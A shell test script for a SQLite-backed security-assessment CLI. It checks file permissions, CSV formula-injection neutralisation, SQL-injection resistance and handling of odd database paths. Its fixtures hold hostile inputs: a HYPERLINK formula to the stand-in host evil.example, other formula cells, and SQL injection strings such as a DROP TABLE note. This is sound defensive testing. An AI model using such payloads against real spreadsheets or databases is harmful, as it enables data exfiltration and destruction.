#!/bin/sh
# hostile-security.sh - the database and everything written from it stay
# private whatever the umask; every CSV writer neutralises formula
# injection; odd --db paths work or are refused, and never lose data; SQL
# is never built from data.
. tests/lib/cli.sh
DB=$SAMMTUI_DB
SRC=$FIXTURES/../../src

# ---- Modes: 0600 files, 0700 folders, whatever the umask -------------------------
for um in 000 022 077; do
	D=$T/um$um
	export SAMMTUI_DB="$D/data/deeper/sammtui.db"
	(umask $um; "$BIN" init > /dev/null 2>&1 && "$BIN" period new Q1 > /dev/null 2>&1)
	check '[ "$(stat -c %a "$SAMMTUI_DB" 2>/dev/null)" = 600 ]' "umask $um: database 0600"
	check '[ "$(stat -c %a "$D/data/deeper")" = 700 ] && [ "$(stat -c %a "$D/data")" = 700 ]' \
		"umask $um: the folders it creates 0700"
	# An import that reads a FIFO holds the database open meanwhile: look
	# at its -wal and -shm then.
	mkfifo "$D/fifo"
	(umask $um; exec "$BIN" import Q1 "$D/fifo" > "$D/imp.out" 2>&1) &
	imp=$!
	n=0
	while [ ! -e "$SAMMTUI_DB-shm" ] && [ $n -lt 100 ]; do sleep 0.05; n=$((n + 1)); done
	modes="$(stat -c %a "$SAMMTUI_DB-wal" 2>/dev/null) $(stat -c %a "$SAMMTUI_DB-shm" 2>/dev/null)"
	# (never block on the FIFO should the import have failed already)
	timeout 10 sh -c 'printf "id,score,note\nG-SM-1-A.1,half,secret\n" > "$1"' fifo "$D/fifo"
	wait $imp
	check '[ "$modes" = "600 600" ]' "umask $um: -wal and -shm 0600 (got '$modes')"
	(umask $um; "$BIN" backup "$D/backup.db" > /dev/null 2>&1 &&
	 "$BIN" export Q1 -o "$D/export.csv" > /dev/null 2>&1)
	check '[ "$(stat -c %a "$D/backup.db" 2>/dev/null)" = 600 ]' "umask $um: backup 0600"
	check '[ "$(stat -c %a "$D/export.csv" 2>/dev/null)" = 600 ]' "umask $um: export -o 0600"
	check 'grep -q secret "$D/export.csv"' "umask $um: the export holds the data"
done
# The default place, $XDG_DATA_HOME/sammtui/sammtui.db.
unset SAMMTUI_DB
(umask 000; "$BIN" init > /dev/null 2>&1)
check '[ "$(stat -c %a "$XDG_DATA_HOME/sammtui/sammtui.db" 2>/dev/null)" = 600 ] &&
	[ "$(stat -c %a "$XDG_DATA_HOME/sammtui")" = 700 ]' "umask 000: default database 0600 in a 0700 folder"
export SAMMTUI_DB="$DB"

# ---- Formula injection: every CSV writer ----------------------------------------------
# A model, scope, period, user and notes that all look like formulas.
cat > "$T/evil.csv" <<'CSV'
id,function,practice_code,practice,stream,stream_name,level,activity,question,criterion
=1+2.1,=Gov(),@P,+Strategy,A,-Promote,1,@SUM(A1),=Q(),"=HYPERLINK(""http://evil.example/?"",""x"")"
=1+2.2,=Gov(),@P,+Strategy,A,-Promote,1,@SUM(A1),=Q(),+criterion
-B.1,=Gov(),@P,+Strategy,B,-Measure,1,-act,@Q,"	tab criterion"
CSV
export SAMMTUI_USER='=user()'
run init; expect_rc 0 "init"
run model load "$T/evil.csv" --name '=Evil' --version '+1'; expect_rc 0 "a model of formulas loads"
run scope new '@scope'; expect_rc 0 "a scope named @scope"
run --scope @scope period new '=Q1()' --model '=Evil' --date 2026-06-30; expect_rc 0 "a period named =Q1()"
printf 'id,score,note\n=1+2.1,half,=note()\n=1+2.2,most,+note\n-B.1,some,@note\n' > "$T/i1.csv"
run --scope @scope import '=Q1()' "$T/i1.csv"; expect_rc 0 "notes of formulas import"
run --scope @scope period new '+Q2' --date 2026-09-30; expect_rc 0 "a period named +Q2"
printf 'id,score,note\n=1+2.1,no,-note\n=1+2.2,most,"\tchanged"\n' > "$T/i2.csv"
run --scope @scope import '+Q2' "$T/i2.csv"; expect_rc 0 "a second import"
export SAMMTUI_USER=tester

# csv_clean DESC: every cell of $T/out is safe for a spreadsheet (none
# starts with = + @ TAB CR, and one starting with - is a number), and some
# cell was neutralised (starts with ').  RFC 4180, one record per line.
csv_clean() {
	bad=$(awk '
	function cell(s) {
		if (s ~ /^[=+@\t\r]/ || (s ~ /^-/ && s !~ /^-[0-9.]+$/)) { print NR ": " s; nbad++ }
		if (s ~ /^\x27/) quoted++
	}
	{
		line = $0; s = ""; inq = 0
		for (i = 1; i <= length(line); i++) {
			c = substr(line, i, 1)
			if (inq) {
				if (c == "\"") { if (substr(line, i + 1, 1) == "\"") { s = s c; i++ } else inq = 0 }
				else s = s c
			} else if (c == "\"") inq = 1
			else if (c == ",") { cell(s); s = "" }
			else s = s c
		}
		cell(s)
	}
	END { if (!quoted) print "no neutralised cell at all" }' "$T/out")
	if [ -z "$bad" ] && [ "$rc" -eq 0 ]; then ok "$1"; else
		not_ok "$1 (exit $rc)"; echo "$bad" | head -n 5 | sed 's/^/#   /'; head -n 3 "$T/err" | sed 's/^/#   err: /'; fi
}
run --scope @scope export '=Q1()';                               csv_clean "export neutralises formulas"
run --scope @scope export '+Q2' -o "$T/x.csv"; cp "$T/x.csv" "$T/out"; csv_clean "export -o neutralises formulas"
run --scope @scope show '=Q1()' --by item --csv;                 csv_clean "show --csv neutralises formulas"
run --scope @scope log --csv;                                    csv_clean "log --csv neutralises formulas"
run --scope @scope diff '=Q1()' '+Q2' --by item --notes --csv;   csv_clean "diff --csv neutralises formulas"
run --scope @scope stagnant --periods 2 --csv;                   csv_clean "stagnant --csv neutralises formulas"
run --scope @scope trend --by practice --csv;                    csv_clean "trend --csv neutralises formulas"
run --scope @scope diff '=Q1()' '+Q2' --csv
expect_out_has ",-0.5," "a negative delta stays a number"

# ---- SQL is never built from data ---------------------------------------------------------
run period new Q1 --date 2026-09-30 --model SAMM; expect_rc 0 "period Q1 (SAMM 2.0)"
DROP="'); DROP TABLE score; --"
run score Q1 G-SM-1-A.1 half --note "$DROP"; expect_rc 0 "a note of SQL is accepted"
run note Q1 G-SM-1-A.2 "x' OR '1'='1"; expect_rc 0 "another one"
run scope new "O'Brien\"; DROP TABLE log; --"; expect_rc 0 "a scope name of SQL"
run export Q1; expect_rc 0 "export"
expect_out_has ",'); DROP TABLE score; --," "the note comes back verbatim"
expect_out_has ",x' OR '1'='1," "so does the other"
check '[ "$(sqlite3 "$DB" "SELECT count(*) FROM sqlite_schema WHERE name IN (\"score\", \"log\")")" = 2 ]' \
	"the tables are all still there"
check '[ "$(sqlite3 "$DB" "SELECT new_note FROM log WHERE item = \"G-SM-1-A.1\"")" = "$DROP" ]' \
	"the change log holds the note verbatim"
run --scope "O'Brien\"; DROP TABLE log; --" period new P1; expect_rc 0 "a period in that scope"
# The source: SQL text only from string literals.  No printf-style SQL
# builders; sqlite3_exec only on literals (or the migration table); strcat
# into SQL only of literals.
sql_from_data=$(cd "$SRC" && {
	grep -rnE 'sqlite3_(v?mprintf|snprintf|str_appendf|str_append)\b' . ;
	grep -rnE '(sn?printf|asprintf)\([^;]*"[^"]*\b(SELECT|INSERT|UPDATE|DELETE|REPLACE|WHERE|VALUES|PRAGMA)\b' . ;
	grep -rnE 'sqlite3_exec\([^,]*,[[:space:]]*[^"[:space:]]' . | grep -v 'migrations\[' ;
	grep -rnE 'strn?cat\([^,]*,[[:space:]]*[^"[:space:]]' . | grep -iE 'sql' ; })
if [ -z "$sql_from_data" ]; then ok "no SQL text is built from data in src/"; else
	not_ok "SQL text may be built from data:"; echo "$sql_from_data" | sed 's/^/#   /'; fi

# ---- Odd --db paths ---------------------------------------------------------------------
# Each works (init, then a second process sees the data, in a file of that
# exact name) or is refused cleanly; none may claim success and lose data.
mkdir -p "$T/odd"
odd_path() { # DESC PATH
	desc=$1 p=$2
	(cd "$T/odd" && "$BIN" --db "$p" init > "$T/out" 2> "$T/err"); rc=$?
	if [ "$rc" -ne 0 ]; then
		check '[ "$rc" -eq 1 ] || [ "$rc" -eq 2 ]' "$desc: refused cleanly (exit $rc)"
		return
	fi
	(cd "$T/odd" && "$BIN" --db "$p" period new Q1 > "$T/out" 2> "$T/err" &&
	 "$BIN" --db "$p" score Q1 G-SM-1-A.1 most --note "odd path" > "$T/out" 2>> "$T/err" &&
	 "$BIN" "--db=$p" export Q1 > "$T/out" 2>> "$T/err"); rc=$?
	if [ "$rc" -eq 0 ] && grep -q "odd path" "$T/out" && [ -s "$T/odd/$p" ] &&
	   [ "$(sqlite3 "$T/odd/$p" "PRAGMA integrity_check" 2>/dev/null)" = ok ]; then
		ok "$desc: works, and the data is in a file of that very name"
	else
		not_ok "$desc: init said it created the database, but its data is lost (exit $rc)"
		head -n 2 "$T/err" | sed 's/^/#   err: /'; ls -la "$T/odd" | grep -F -- "$p" | sed 's/^/#   /'
	fi
}
odd_path "spaces" "my data/assessment db.sqlite"
odd_path "quotes" "it's \"ours\".db"
odd_path "a leading dash" "-db.sqlite"
odd_path "non-UTF-8 bytes" "$(printf 'caf\351 \377.db')"
odd_path "a newline" "$(printf 'two\nlines.db')"
odd_path "a SQLite URI" "file:uri.db?mode=memory"
odd_path "the in-memory name" ":memory:"
odd_path "a query string" "q.db?mode=ro"
# The same through $SAMMTUI_DB.
mkdir -p "$T/odd-env"
(cd "$T/odd-env" && SAMMTUI_DB=:memory: "$BIN" init > /dev/null 2>&1 &&
 SAMMTUI_DB=:memory: "$BIN" period new Q1 > /dev/null 2>&1); rc=$?
check '[ "$rc" -eq 0 ] && [ -s "$T/odd-env/:memory:" ]' "SAMMTUI_DB=:memory: is a file of that name too"
run --db "" init; check '[ "$rc" -eq 2 ]' "an empty --db is a usage error"
done_testing
